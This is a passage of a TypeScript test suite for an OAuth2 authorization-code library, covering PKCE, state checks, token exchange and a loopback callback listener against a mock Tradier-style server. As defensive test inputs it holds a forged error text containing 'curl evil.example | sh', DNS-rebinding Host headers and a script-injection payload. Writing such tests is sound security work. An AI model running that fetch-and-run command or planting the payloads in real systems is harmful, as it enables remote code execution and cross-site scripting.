import * as HttpClient from "@effect/platform/HttpClient"
import * as HttpClientRequest from "@effect/platform/HttpClientRequest"
import * as HttpServer from "@effect/platform/HttpServer"
import * as HttpServerRequest from "@effect/platform/HttpServerRequest"
import * as HttpServerResponse from "@effect/platform/HttpServerResponse"
import * as NodeHttpClient from "@effect/platform-node/NodeHttpClient"
import * as NodeHttpServer from "@effect/platform-node/NodeHttpServer"
import { assert, describe, it } from "@effect/vitest"
import * as Cause from "effect/Cause"
import * as Deferred from "effect/Deferred"
import * as Duration from "effect/Duration"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Encoding from "effect/Encoding"
import * as Exit from "effect/Exit"
import * as Fiber from "effect/Fiber"
import * as Layer from "effect/Layer"
import * as Logger from "effect/Logger"
import * as LogLevel from "effect/LogLevel"
import * as Option from "effect/Option"
import * as Redacted from "effect/Redacted"
import * as Ref from "effect/Ref"
import * as TestClock from "effect/TestClock"
import * as TestServices from "effect/TestServices"
import * as http from "node:http"
import * as AuthorizationCode from "../src/AuthorizationCode.js"
import * as ClientAuth from "../src/ClientAuth.js"
import * as Endpoint from "../src/Endpoint.js"
import * as OAuth2Client from "../src/OAuth2Client.js"
import { AuthorizationFailed, InvalidConfiguration, Unauthorized, Unsupported } from "../src/OAuth2Error.js"

const CLIENT_ID = "098f6bcd4621d373cade4e832627b4f6"
const CLIENT_SECRET = "s3cr3t+/="
const ACCESS_TOKEN = "tradier-access-token-value"
const UNRESERVED = /^[A-Za-z0-9\-._~]+$/
const BASE64URL = /^[A-Za-z0-9_-]+$/

// -----------------------------------------------------------------------------
// helpers
// -----------------------------------------------------------------------------

/** The loopback server the callback listener runs on, one per test. */
const CallbackServer = NodeHttpServer.layer(() => http.createServer(), { host: "127.0.0.1", port: 0 })

/** A plain HTTP client without keep-alive, standing in for the browser and for the token-endpoint client. */
const Client = NodeHttpClient.layerWithoutAgent.pipe(Layer.provide(NodeHttpClient.makeAgentLayer({ keepAlive: false })))

const Live = Layer.merge(CallbackServer, Client)

/** Serves an app on a second loopback server owned by the current scope; returns its base URL. */
const listen = (app: Effect.Effect<HttpServerResponse.HttpServerResponse, never, HttpServerRequest.HttpServerRequest>) =>
  Effect.gen(function*() {
    const server = yield* NodeHttpServer.make(() => http.createServer(), { host: "127.0.0.1", port: 0 }).pipe(
      Effect.orDie
    )
    yield* server.serve(app)
    const address = server.address as HttpServer.TcpAddress
    return `http://127.0.0.1:${address.port}`
  })

const tradierEndpoint = (base: string) =>
  Endpoint.make({
    provider: "tradier-test",
    environment: "sandbox",
    tokenUrl: `${base}/v1/oauth/accesstoken`,
    authorizeUrl: `${base}/v1/oauth/authorize`,
    authorizeScopeDelimiter: ",",
    defaultTokenType: "Bearer",
    defaultLifetime: Duration.seconds(86399)
  }).pipe(Effect.orDie)

const sha256Base64Url = (input: string) =>
  Effect.promise(() => globalThis.crypto.subtle.digest("SHA-256", new TextEncoder().encode(input))).pipe(
    Effect.map((digest) => Encoding.encodeBase64Url(new Uint8Array(digest)))
  )

interface Issued {
  readonly clientId: string
  readonly redirectUri: string | undefined
  readonly challenge: string | undefined
  readonly challengeMethod: string | undefined
}

interface TokenRequest {
  readonly form: URLSearchParams
  readonly authorization: string | undefined
}

interface AuthServer {
  readonly base: string
  readonly endpoint: Endpoint.Endpoint
  /** Every authorize request's query, in order. */
  readonly authorizeRequests: Array<URLSearchParams>
  /** Every token request, in order. */
  readonly tokenRequests: Array<TokenRequest>
  /** Why the token endpoint refused each refused request. */
  readonly refusals: Array<string>
  /** Every code issued, in order. */
  readonly issuedCodes: Array<string>
  /** Issues a code directly, as if the user had logged in. */
  readonly issue: (code: string, issued: Issued) => void
}

interface AuthServerOptions {
  /** The callback URL registered with the client, used when the request has no `redirect_uri`. */
  readonly registeredRedirect?: string | undefined
  /** The parameters of the redirect back; default `code` and the request's `state`. */
  readonly callbackParams?: ((query: URLSearchParams, code: string) => Record<string, string>) | undefined
}

/**
 * A small authorization server in the manner of Tradier: `GET /v1/oauth/authorize` logs the user in at once and
 * 302s to the redirect URI with a code and the state; `POST /v1/oauth/accesstoken` checks Basic auth, grant_type,
 * the code (single use), redirect_uri and the PKCE verifier, and answers Tradier's token shape (no token_type).
 */
const makeAuthServer = (options: AuthServerOptions = {}) =>
  Effect.gen(function*() {
    const codes = new Map<string, Issued>()
    const authorizeRequests: Array<URLSearchParams> = []
    const tokenRequests: Array<TokenRequest> = []
    const refusals: Array<string> = []
    const issuedCodes: Array<string> = []
    const issue = (code: string, issued: Issued) => {
      codes.set(code, issued)
      issuedCodes.push(code)
    }
    const refuse = (why: string, error = "invalid_grant") => {
      refusals.push(why)
      return HttpServerResponse.unsafeJson({ error }, { status: 400 })
    }
    const app = Effect.gen(function*() {
      const request = yield* HttpServerRequest.HttpServerRequest
      const url = new URL(request.url, "http://127.0.0.1")
      if (request.method === "GET" && url.pathname === "/v1/oauth/authorize") {
        const query = url.searchParams
        authorizeRequests.push(query)
        const redirect = query.get("redirect_uri") ?? options.registeredRedirect
        if (redirect === undefined) return HttpServerResponse.text("no redirect", { status: 400 })
        const code = `code-${globalThis.crypto.randomUUID()}`
        issue(code, {
          clientId: query.get("client_id") ?? "",
          redirectUri: query.get("redirect_uri") ?? undefined,
          challenge: query.get("code_challenge") ?? undefined,
          challengeMethod: query.get("code_challenge_method") ?? undefined
        })
        const params = options.callbackParams?.(query, code) ?? { code, state: query.get("state") ?? "" }
        const location = new URL(redirect)
        for (const [name, value] of Object.entries(params)) location.searchParams.set(name, value)
        return HttpServerResponse.redirect(location, { status: 302 })
      }
      if (request.method === "POST" && url.pathname === "/v1/oauth/accesstoken") {
        const form = new URLSearchParams(yield* Effect.orDie(request.text))
        const authorization = request.headers["authorization"]
        tokenRequests.push({ form, authorization })
        if (authorization !== ClientAuth.basicHeader(CLIENT_ID, CLIENT_SECRET)) {
          return refuse("client authentication", "invalid_client")
        }
        if (form.get("grant_type") !== "authorization_code") return refuse("grant_type", "unsupported_grant_type")
        const code = form.get("code") ?? ""
        const issued = codes.get(code)
        if (issued === undefined) return refuse("unknown or used code")
        codes.delete(code)
        if (issued.clientId !== CLIENT_ID) return refuse("code issued to another client")
        if ((form.get("redirect_uri") ?? undefined) !== issued.redirectUri) return refuse("redirect_uri")
        const verifier = form.get("code_verifier")
        if (issued.challenge !== undefined) {
          if (issued.challengeMethod !== "S256" || verifier === null) return refuse("missing code_verifier")
          if ((yield* sha256Base64Url(verifier)) !== issued.challenge) return refuse("code_verifier")
        } else if (verifier !== null) {
          return refuse("unexpected code_verifier")
        }
        return HttpServerResponse.unsafeJson({
          access_token: ACCESS_TOKEN,
          expires_in: 86399,
          issued_at: "2024-01-01T00:00:00Z",
          scope: "read trade",
          status: "approved"
        })
      }
      return HttpServerResponse.text("not found", { status: 404 })
    })
    const base = yield* listen(app)
    const endpoint = yield* tradierEndpoint(base)
    return { base, endpoint, authorizeRequests, tokenRequests, refusals, issuedCodes, issue } satisfies AuthServer
  })

const clientFor = (endpoint: Endpoint.Endpoint) =>
  OAuth2Client.make({ endpoint, credentials: Endpoint.credentials(CLIENT_ID, CLIENT_SECRET) }).pipe(Effect.orDie)

/** Captures every log line (all levels) of an effect, formatted with its annotations. */
const withCapturedLogs = <A, E, R>(lines: Array<string>, self: Effect.Effect<A, E, R>) =>
  self.pipe(
    Logger.withMinimumLogLevel(LogLevel.All),
    Effect.provide(
      Logger.replace(
        Logger.defaultLogger,
        Logger.make((options) => {
          lines.push(Logger.logfmtLogger.log(options))
        })
      )
    )
  )

const assertNoSecrets = (text: string, secrets: ReadonlyArray<string>) => {
  for (const secret of secrets) {
    assert.isNotEmpty(secret)
    const line = text.split("\n").find((l) => l.includes(secret))
    assert.isUndefined(line, `a secret leaked into: ${line?.replaceAll(secret, "<SECRET>")}`)
  }
}

/** Everything an error shows: message, string form, JSON form. */
const errorText = (error: unknown) =>
  [String(error), (error as Error).message, JSON.stringify(error)].join("\n")

const getPage = (url: string) =>
  Effect.gen(function*() {
    const client = yield* HttpClient.HttpClient
    const response = yield* client.get(url)
    return { status: response.status, headers: response.headers, body: yield* response.text }
  }).pipe(Effect.scoped, Effect.orDie)

/** A GET with the given Host header (as a DNS-rebinding page or a local process can send). */
const getPageWithHost = (url: string, host: string) =>
  Effect.gen(function*() {
    const client = yield* HttpClient.HttpClient
    const response = yield* client.execute(HttpClientRequest.get(url, { headers: { host } }))
    return { status: response.status, headers: response.headers, body: yield* response.text }
  }).pipe(Effect.scoped, Effect.orDie)

/** Whether a GET goes unanswered (or answered with anything but 200) for half a second of real time. */
const unanswered = (url: string) =>
  getPage(url).pipe(
    Effect.timeoutOption(Duration.millis(500)),
    TestServices.provideLive,
    Effect.map(Option.match({ onNone: () => true, onSome: (page) => page.status !== 200 }))
  )

const tradierSession = (options: Partial<AuthorizationCode.AuthorizeOptions> = {}) =>
  Effect.gen(function*() {
    const endpoint = yield* tradierEndpoint("https://api.tradier.com")
    return yield* AuthorizationCode.authorize({ endpoint, clientId: CLIENT_ID, scopes: ["read", "trade"], ...options })
  }).pipe(Effect.orDie)

// -----------------------------------------------------------------------------
// state and PKCE
// -----------------------------------------------------------------------------

describe("PKCE", () => {
  it.effect("makeVerifier: 43 to 128 characters of the RFC 7636 alphabet, all distinct", () =>
    Effect.gen(function*() {
      const seen = new Set<string>()
      for (const length of [undefined, 43, 44, 64, 100, 127, 128]) {
        for (let i = 0; i < 100; i++) {
          const verifier = Redacted.value(yield* AuthorizationCode.makeVerifier({ length }))
          assert.strictEqual(verifier.length, length ?? 64)
          assert.match(verifier, UNRESERVED)
          assert.isTrue(AuthorizationCode.isVerifier(verifier))
          seen.add(verifier)
        }
      }
      assert.strictEqual(seen.size, 700)
    }))

  it.effect("makeVerifier: every character position varies (no fixed padding or prefix)", () =>
    Effect.gen(function*() {
      const samples: Array<string> = []
      for (let i = 0; i < 200; i++) samples.push(Redacted.value(yield* AuthorizationCode.makeVerifier({ length: 43 })))
      for (let position = 0; position < 43; position++) {
        const chars = new Set(samples.map((s) => s[position]))
        assert.isAbove(chars.size, 10, `position ${position} barely varies`)
      }
    }))

  it.effect("makeVerifier: a length outside 43..128 is a defect", () =>
    Effect.gen(function*() {
      for (const length of [0, 42, 129, 50.5]) {
        const exit = yield* Effect.exit(AuthorizationCode.makeVerifier({ length }))
        assert.isTrue(Exit.isFailure(exit) && Cause.isDie(exit.cause), `length ${length}`)
      }
    }))

  it.effect("challengeS256 matches RFC 7636 Appendix B", () =>
    Effect.gen(function*() {
      // RFC 7636 Appendix B: the verifier is the base64url of the octets given there; its S256 challenge follows.
      const octets = [
        116, 24, 223, 180, 151, 153, 224, 37, 79, 250, 96, 125, 216, 173, 187, 186, 22, 212, 37, 77, 105, 214,
        191, 240, 91, 88, 5, 88, 83, 132, 141, 121
      ]
      const verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
      assert.strictEqual(Encoding.encodeBase64Url(new Uint8Array(octets)), verifier)
      const challenge = yield* AuthorizationCode.challengeS256(Redacted.make(verifier))
      assert.strictEqual(challenge, "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM")
    }))

  it.effect("isVerifier rejects short, long and out-of-alphabet strings", () =>
    Effect.sync(() => {
      assert.isFalse(AuthorizationCode.isVerifier("a".repeat(42)))
      assert.isFalse(AuthorizationCode.isVerifier("a".repeat(129)))
      assert.isFalse(AuthorizationCode.isVerifier(`${"a".repeat(42)}+`))
      assert.isTrue(AuthorizationCode.isVerifier(`${"a".repeat(39)}-._~`))
    }))
})

describe("makeState", () => {
  it.effect("at least 128 random bits, base64url, all distinct", () =>
    Effect.gen(function*() {
      const seen = new Set<string>()
      for (let i = 0; i < 500; i++) {
        const state = Redacted.value(yield* AuthorizationCode.makeState)
        assert.match(state, BASE64URL)
        const bytes = Encoding.decodeBase64Url(state)
        assert.isTrue(Either.isRight(bytes))
        // 43 characters of 6 bits each: 256 bits, well above RFC 6749's 128.
        assert.isAtLeast(state.length * 6, 128)
        assert.strictEqual(state.length, 43)
        seen.add(state)
      }
      assert.strictEqual(seen.size, 500)
      // Roughly uniform bits: the share of set bits over all samples is close to a half.
      let ones = 0
      let total = 0
      for (const state of seen) {
        for (const byte of Either.getOrThrow(Encoding.decodeBase64Url(state))) {
          for (let b = 0; b < 8; b++) ones += (byte >> b) & 1
          total += 8
        }
      }
      assert.approximately(ones / total, 0.5, 0.02)
    }))

  it.effect("is Redacted", () =>
    Effect.gen(function*() {
      const state = yield* AuthorizationCode.makeState
      assert.isTrue(Redacted.isRedacted(state))
      assert.notInclude(String(state), Redacted.value(state))
    }))
})

// -----------------------------------------------------------------------------
// authorize
// -----------------------------------------------------------------------------

describe("authorize", () => {
  it.effect("Tradier: client_id, comma-separated scope, state; no redirect_uri, no PKCE", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const url = new URL(session.url)
      assert.strictEqual(`${url.origin}${url.pathname}`, "https://api.tradier.com/v1/oauth/authorize")
      const q = url.searchParams
      assert.strictEqual(q.get("response_type"), "code")
      assert.strictEqual(q.get("client_id"), CLIENT_ID)
      assert.strictEqual(q.get("scope"), "read,trade")
      assert.strictEqual(q.get("state"), Redacted.value(session.state))
      assert.isFalse(q.has("redirect_uri"))
      assert.isFalse(q.has("code_challenge"))
      assert.isFalse(q.has("code_challenge_method"))
      assert.strictEqual(session.codeVerifier, undefined)
      assert.strictEqual(session.redirectUri, undefined)
      assert.deepStrictEqual(session.scopes, ["read", "trade"])
      assert.strictEqual(session.provider, "tradier-test")
      assert.isFalse(yield* Ref.get(session.consumed))
    }))

  it.effect("PKCE S256, redirect_uri and extra parameters", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession({
        pkce: true,
        redirectUri: "http://127.0.0.1:8765/callback",
        extraParams: { prompt: "login" }
      })
      const q = new URL(session.url).searchParams
      assert.isDefined(session.codeVerifier)
      const verifier = Redacted.value(session.codeVerifier!)
      assert.isTrue(AuthorizationCode.isVerifier(verifier))
      assert.strictEqual(q.get("code_challenge"), yield* sha256Base64Url(verifier))
      assert.strictEqual(q.get("code_challenge_method"), "S256")
      assert.strictEqual(q.get("redirect_uri"), "http://127.0.0.1:8765/callback")
      assert.strictEqual(session.redirectUri, "http://127.0.0.1:8765/callback")
      assert.strictEqual(q.get("prompt"), "login")
      assert.isFalse(session.url.includes(verifier))
    }))

  it.effect("sendResponseType: false leaves response_type out; a space delimiter by default", () =>
    Effect.gen(function*() {
      const tradier = yield* tradierSession({ sendResponseType: false })
      assert.isFalse(new URL(tradier.url).searchParams.has("response_type"))
      const endpoint = yield* Endpoint.make({
        provider: "rfc",
        tokenUrl: "https://as.example/token",
        authorizeUrl: "https://as.example/authorize?audience=api"
      })
      const session = yield* AuthorizationCode.authorize({ endpoint, clientId: "c", scopes: ["a", "b"] })
      const q = new URL(session.url).searchParams
      assert.strictEqual(q.get("scope"), "a b")
      assert.strictEqual(q.get("audience"), "api")
      assert.include(session.url, "scope=a+b")
      const none = yield* AuthorizationCode.authorize({ endpoint, clientId: "c" })
      assert.isFalse(new URL(none.url).searchParams.has("scope"))
    }))

  it.effect("each session has its own state", () =>
    Effect.gen(function*() {
      const a = yield* tradierSession()
      const b = yield* tradierSession()
      assert.notStrictEqual(Redacted.value(a.state), Redacted.value(b.state))
    }))

  it.effect("printing a session redacts its state", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession({ pkce: true })
      const state = Redacted.value(session.state)
      assertNoSecrets(`${String(session)}\n${JSON.stringify(session)}`, [state, Redacted.value(session.codeVerifier!)])
      assert.include(JSON.stringify(session), "redacted")
    }))

  it.effect("no authorizeUrl: Unsupported", () =>
    Effect.gen(function*() {
      const endpoint = yield* Endpoint.make({ provider: "cc-only", tokenUrl: "https://as.example/token" })
      const error = yield* Effect.flip(AuthorizationCode.authorize({ endpoint, clientId: "c" }))
      assert.instanceOf(error, Unsupported)
    }))

  it.effect("bad options: InvalidConfiguration", () =>
    Effect.gen(function*() {
      const endpoint = yield* tradierEndpoint("https://api.tradier.com")
      const cases: Array<Partial<AuthorizationCode.AuthorizeOptions>> = [
        { clientId: " " },
        { scopes: ["read,trade"] },
        { scopes: ["read write"] },
        { scopes: [""] },
        { redirectUri: "/callback" },
        { redirectUri: "http://127.0.0.1:1/cb#frag" },
        { extraParams: { state: "attacker" } },
        { extraParams: { code_challenge: "x" } }
      ]
      for (const options of cases) {
        const error = yield* Effect.flip(AuthorizationCode.authorize({ endpoint, clientId: CLIENT_ID, ...options }))
        assert.instanceOf(error, InvalidConfiguration, JSON.stringify(options))
      }
    }))
})

// -----------------------------------------------------------------------------
// validateCallback
// -----------------------------------------------------------------------------

describe("validateCallback", () => {
  it.effect("returns the code when the state matches", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const state = Redacted.value(session.state)
      const code = yield* AuthorizationCode.validateCallback(session, new URLSearchParams({ code: "the-code", state }))
      assert.isTrue(Redacted.isRedacted(code))
      assert.strictEqual(Redacted.value(code), "the-code")
      assert.isTrue(yield* Ref.get(session.consumed))
    }))

  it.effect("accepts a record of parameters", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const code = yield* AuthorizationCode.validateCallback(session, {
        code: "c1",
        state: Redacted.value(session.state),
        ignored: undefined
      })
      assert.strictEqual(Redacted.value(code), "c1")
    }))

  it.effect("a state that differs, even by one character or in case, is state_mismatch and leaks nothing", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const state = Redacted.value(session.state)
      const last = state.at(-1) === "A" ? "B" : "A"
      const forged = [
        state.slice(0, -1) + last,
        state.toUpperCase() === state ? state.toLowerCase() : state.toUpperCase(),
        `${state}x`,
        state.slice(0, -1),
        ` ${state}`,
        ""
      ]
      for (const wrong of forged) {
        const error = yield* Effect.flip(
          AuthorizationCode.validateCallback(session, new URLSearchParams({ code: "the-code", state: wrong }))
        )
        assert.instanceOf(error, AuthorizationFailed)
        assert.strictEqual(error.reason, "state_mismatch")
        assertNoSecrets(errorText(error), [state, "the-code"])
      }
      // A forged callback does not use up the session: the genuine one still goes through.
      assert.isFalse(yield* Ref.get(session.consumed))
      const code = yield* AuthorizationCode.validateCallback(session, new URLSearchParams({ code: "real", state }))
      assert.strictEqual(Redacted.value(code), "real")
    }))

  it.effect("a missing or repeated state is state_mismatch", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const state = Redacted.value(session.state)
      const missing = yield* Effect.flip(AuthorizationCode.validateCallback(session, new URLSearchParams({ code: "c" })))
      assert.strictEqual(missing.reason, "state_mismatch")
      const twice = new URLSearchParams([["code", "c"], ["state", state], ["state", state]])
      const repeated = yield* Effect.flip(AuthorizationCode.validateCallback(session, twice))
      assert.strictEqual(repeated.reason, "state_mismatch")
    }))

  it.effect("no code is missing_code", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const state = Redacted.value(session.state)
      const error = yield* Effect.flip(AuthorizationCode.validateCallback(session, new URLSearchParams({ state })))
      assert.strictEqual(error.reason, "missing_code")
      assert.include(error.message, "no authorization code")
      assertNoSecrets(errorText(error), [state])
    }))

  it.effect("error=access_denied becomes a typed error with the description", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const state = Redacted.value(session.state)
      const error = yield* Effect.flip(
        AuthorizationCode.validateCallback(
          session,
          new URLSearchParams({ error: "access_denied", error_description: "The user said no", state })
        )
      )
      assert.instanceOf(error, AuthorizationFailed)
      assert.strictEqual(error.reason, "access_denied")
      assert.strictEqual(error.description, "The user said no")
      assert.strictEqual(error.provider, "tradier-test")
      assert.strictEqual(error.source, "authorization")
      assert.include(error.message, "refused")
      assert.include(error.message, "The user said no")
      assertNoSecrets(errorText(error), [state])
      // An error callback uses the state up too.
      const again = yield* Effect.flip(
        AuthorizationCode.validateCallback(session, new URLSearchParams({ code: "c", state }))
      )
      assert.strictEqual(again.reason, "state_mismatch")
    }))

  it.effect("other provider errors keep their code; one without state is reported as is", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const invalidScope = yield* Effect.flip(
        AuthorizationCode.validateCallback(
          session,
          new URLSearchParams({ error: "invalid_scope", state: Redacted.value(session.state) })
        )
      )
      assert.strictEqual(invalidScope.reason, "invalid_scope")
      assert.strictEqual(invalidScope.description, undefined)
      const other = yield* tradierSession()
      const noState = yield* Effect.flip(
        AuthorizationCode.validateCallback(other, new URLSearchParams({ error: "server_error\u0000\n" }))
      )
      assert.strictEqual(noState.reason, "server_error")
      assert.isFalse(yield* Ref.get(other.consumed))
    }))

  it.effect("a state is used once: a replayed callback is state_mismatch", () =>
    Effect.gen(function*() {
      const session = yield* tradierSession()
      const params = new URLSearchParams({ code: "the-code", state: Redacted.value(session.state) })
      yield* AuthorizationCode.validateCallback(session, params)
      const replay = yield* Effect.flip(AuthorizationCode.validateCallback(session, params))
      assert.strictEqual(replay.reason, "state_mismatch")
      // Even when both arrive at once, only one wins.
      const racing = yield* tradierSession()
      const ok = new URLSearchParams({ code: "c", state: Redacted.value(racing.state) })
      const results = yield* Effect.all(
        Array.from({ length: 20 }, () => Effect.either(AuthorizationCode.validateCallback(racing, ok))),
        { concurrency: "unbounded" }
      )
      assert.strictEqual(results.filter(Either.isRight).length, 1)
    }))
})

// -----------------------------------------------------------------------------
// exchange
// -----------------------------------------------------------------------------

describe("exchange", () => {
  it.scoped("sends grant_type, code, redirect_uri and code_verifier with Basic auth", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer()
      const client = yield* clientFor(server.endpoint)
      const session = yield* AuthorizationCode.authorize({
        endpoint: server.endpoint,
        clientId: CLIENT_ID,
        scopes: ["read", "trade"],
        redirectUri: "http://127.0.0.1:8765/callback",
        pkce: true
      })
      const challenge = new URL(session.url).searchParams.get("code_challenge") ?? undefined
      server.issue("code-1", {
        clientId: CLIENT_ID,
        redirectUri: "http://127.0.0.1:8765/callback",
        challenge,
        challengeMethod: "S256"
      })
      const token = yield* AuthorizationCode.exchange(session, Redacted.make("code-1")).pipe(
        Effect.provideService(OAuth2Client.OAuth2Client, client)
      )
      assert.strictEqual(Redacted.value(token.value), ACCESS_TOKEN)
      assert.strictEqual(token.type, "Bearer")
      assert.deepStrictEqual(token.scopes, ["read", "trade"])
      assert.deepStrictEqual(server.refusals, [])
      const [request] = server.tokenRequests
      assert.strictEqual(request?.form.get("grant_type"), "authorization_code")
      assert.strictEqual(request?.form.get("code"), "code-1")
      assert.strictEqual(request?.form.get("redirect_uri"), "http://127.0.0.1:8765/callback")
      assert.strictEqual(request?.form.get("code_verifier"), Redacted.value(session.codeVerifier!))
      assert.strictEqual(request?.authorization, ClientAuth.basicHeader(CLIENT_ID, CLIENT_SECRET))
    }).pipe(Effect.provide(Client)))

  it.scoped("Tradier mode: neither redirect_uri nor code_verifier is sent", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer()
      const client = yield* clientFor(server.endpoint)
      const session = yield* AuthorizationCode.authorize({ endpoint: server.endpoint, clientId: CLIENT_ID })
      server.issue("code-2", { clientId: CLIENT_ID, redirectUri: undefined, challenge: undefined, challengeMethod: undefined })
      yield* AuthorizationCode.exchange(session, Redacted.make("code-2")).pipe(
        Effect.provideService(OAuth2Client.OAuth2Client, client)
      )
      const form = server.tokenRequests[0]!.form
      assert.deepStrictEqual([...form.keys()].sort(), ["code", "grant_type"])
    }).pipe(Effect.provide(Client)))

  it.scoped("a used code is refused: Unauthorized invalid_grant, without the code in the error", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer()
      const client = yield* clientFor(server.endpoint)
      const session = yield* AuthorizationCode.authorize({ endpoint: server.endpoint, clientId: CLIENT_ID })
      server.issue("code-3", { clientId: CLIENT_ID, redirectUri: undefined, challenge: undefined, challengeMethod: undefined })
      const run = AuthorizationCode.exchange(session, Redacted.make("code-3")).pipe(
        Effect.provideService(OAuth2Client.OAuth2Client, client)
      )
      yield* run
      const error = yield* Effect.flip(run)
      assert.instanceOf(error, Unauthorized)
      assert.strictEqual((error as Unauthorized).reason, "invalid_grant")
      assertNoSecrets(errorText(error), ["code-3"])
    }).pipe(Effect.provide(Client)))
})

// -----------------------------------------------------------------------------
// loopbackCallback
// -----------------------------------------------------------------------------

describe("loopbackCallback", () => {
  /** A session whose redirect URI is the listener's, and its state in clear (as the genuine provider sends it). */
  const sessionFor = (callback: AuthorizationCode.Loopback) =>
    Effect.map(tradierSession({ redirectUri: callback.redirectUri }), (session) => ({
      session,
      state: Redacted.value(session.state)
    }))

  it.scoped("only the session's callback ends the wait; pages for the rest; other paths and methods refused", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback({ provider: "tradier-test" })
      assert.match(callback.redirectUri, /^http:\/\/127\.0\.0\.1:\d+\/callback$/)
      const origin = new URL(callback.redirectUri).origin
      const { session, state } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(callback.awaitCode(session))

      const other = yield* getPage(`${origin}/favicon.ico`)
      assert.strictEqual(other.status, 404)
      const bare = yield* getPage(callback.redirectUri)
      assert.strictEqual(bare.status, 400)
      const client = yield* HttpClient.HttpClient
      const post = yield* client.execute(HttpClientRequest.post(`${callback.redirectUri}?code=x&state=${state}`)).pipe(
        Effect.scoped
      )
      assert.strictEqual(post.status, 405)

      const genuine = yield* getPage(`${callback.redirectUri}?code=the-code&state=${state}`)
      assert.strictEqual(genuine.status, 200)
      assert.include(genuine.headers["content-type"] ?? "", "text/html")
      assert.strictEqual(genuine.headers["cache-control"], "no-store")
      assert.strictEqual(genuine.headers["referrer-policy"], "no-referrer")
      assert.include(genuine.body, "You can close this window")
      assertNoSecrets(genuine.body, ["the-code", state])
      assert.strictEqual(Redacted.value(yield* Fiber.join(fiber)), "the-code")

      // The state is used once: a replay is turned away.
      const replay = yield* getPage(`${callback.redirectUri}?code=other&state=${state}`)
      assert.strictEqual(replay.status, 400)
      assertNoSecrets(replay.body, ["other", state])
    }).pipe(Effect.provide(Live)))

  it.scoped("forged callbacks (another state, no state, an error with the attacker's text, a foreign Host) do not end the wait; the genuine one then succeeds", () =>
    Effect.gen(function*() {
      const lines: Array<string> = []
      const callback = yield* withCapturedLogs(lines, AuthorizationCode.loopbackCallback({ provider: "tradier-test" }))
      const { session, state } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(callback.awaitCode(session))
      const port = new URL(callback.redirectUri).port
      const attacker = "server said: run curl evil.example | sh"
      const forged = [
        new URLSearchParams({ code: "forged-code", state: "forged-state" }),
        new URLSearchParams({ code: "forged-code" }),
        new URLSearchParams({ error: "access_denied", error_description: attacker }),
        new URLSearchParams({ error: "server_error", error_description: attacker, state: "forged-state" }),
        new URLSearchParams([["code", "forged-code"], ["state", state], ["state", state]])
      ]
      for (const query of forged) {
        const page = yield* getPage(`${callback.redirectUri}?${query}`)
        assert.strictEqual(page.status, 400, query.toString())
        assert.notInclude(page.body, "curl")
        assert.notInclude(page.body, "forged")
      }
      // The right state, sent to the listener under a name that is not loopback (DNS rebinding), is refused too.
      for (const host of ["evil.example", `evil.example:${port}`, `127.0.0.1.evil.example:${port}`, `127.0.0.1:${Number(port) + 1}`]) {
        const page = yield* getPageWithHost(`${callback.redirectUri}?code=forged-code&state=${state}`, host)
        assert.strictEqual(page.status, 400, host)
      }
      assert.isTrue(Option.isNone(yield* Fiber.poll(fiber)))

      const genuine = yield* getPageWithHost(`${callback.redirectUri}?code=the-code&state=${state}`, `localhost:${port}`)
      assert.strictEqual(genuine.status, 200)
      assert.strictEqual(Redacted.value(yield* Fiber.join(fiber)), "the-code")
      const log = lines.join("\n")
      assert.include(log, "still waiting")
      assert.notInclude(log, "curl")
      assertNoSecrets(log, [state, "the-code", "forged-code"])
    }).pipe(Effect.provide(Live)))

  it.scoped("the session's error callback ends the wait with the provider's error; its page quotes it, escaped", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback()
      const { session, state } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(Effect.flip(callback.awaitCode(session)))
      const query = new URLSearchParams({
        error: "access_denied",
        error_description: "<script>alert(1)</script>\u001b[2J",
        state
      })
      const page = yield* getPage(`${callback.redirectUri}?${query}`)
      assert.strictEqual(page.status, 200)
      assert.include(page.body, "access_denied")
      assert.include(page.body, "&lt;script&gt;")
      assert.notInclude(page.body, "<script>")
      assert.notInclude(page.body, "\u001b")
      const error = yield* Fiber.join(fiber)
      assert.strictEqual(error.reason, "access_denied")
      assert.strictEqual(error.description, "<script>alert(1)</script>")
    }).pipe(Effect.provide(Live)))

  it.scoped("the session's callback without a code ends the wait with missing_code", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback()
      const { session, state } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(Effect.flip(callback.awaitCode(session)))
      const page = yield* getPage(`${callback.redirectUri}?state=${state}`)
      assert.strictEqual(page.status, 400)
      assert.strictEqual((yield* Fiber.join(fiber)).reason, "missing_code")
    }).pipe(Effect.provide(Live)))

  it.scoped("a callback before anyone expects it does not count; after expect, it does even before the wait", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback()
      const { session, state } = yield* sessionFor(callback)
      const early = yield* getPage(`${callback.redirectUri}?code=early&state=${state}`)
      assert.strictEqual(early.status, 400)
      assert.isFalse(yield* Ref.get(session.consumed))
      const wait = yield* callback.expect(session)
      assert.strictEqual((yield* getPage(`${callback.redirectUri}?code=the-code&state=${state}`)).status, 200)
      assert.strictEqual(Redacted.value(yield* wait), "the-code")
    }).pipe(Effect.provide(Live)))

  it.scoped("a custom path and a localhost redirect host", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback({ path: "/oauth/tradier", redirectHost: "localhost" })
